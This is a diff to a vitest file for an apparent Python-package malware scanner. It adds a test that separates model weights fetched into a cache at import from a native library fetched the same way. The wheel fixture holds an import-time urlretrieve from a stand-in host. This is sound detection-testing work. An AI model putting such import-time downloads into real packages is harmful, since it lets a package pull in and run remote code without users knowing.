@@ -1,4 +1,5 @@
 import { describe, expect, test } from 'vitest';
+import type { Finding } from '../../../src/analysis/report/finding.ts';
 import { inspect, python, sdist, wheel } from '../../support/inspect.ts';
 
 test('a program that is downloaded and started at import is malware at the line that starts it', async () => {
@@ -319,4 +320,22 @@ test('an archive that is fetched and unpacked by the program of that name is not
   });
 
   expect(await inspect('dropper', file)).toEqual([]);
+});
+
+test('weights that an import fetches into a cache are no program, a library that it fetches is one', async () => {
+  const of = (name: string): Promise<readonly Finding[]> =>
+    inspect(
+      'dropper',
+      wheel({
+        'pkg/__init__.py': python(
+          'import os, urllib.request',
+          `at = os.path.expanduser('~/.cache/pkg/${name}')`,
+          'if not os.path.exists(at):',
+          `    urllib.request.urlretrieve('https://weights.service.invalid/${name}', at)`,
+        ),
+      }),
+    );
+
+  expect(await of('model.bin')).toEqual([]);
+  expect(await of('model.so')).toMatchObject([{ class: 'malware', score: 6 }]);
 });
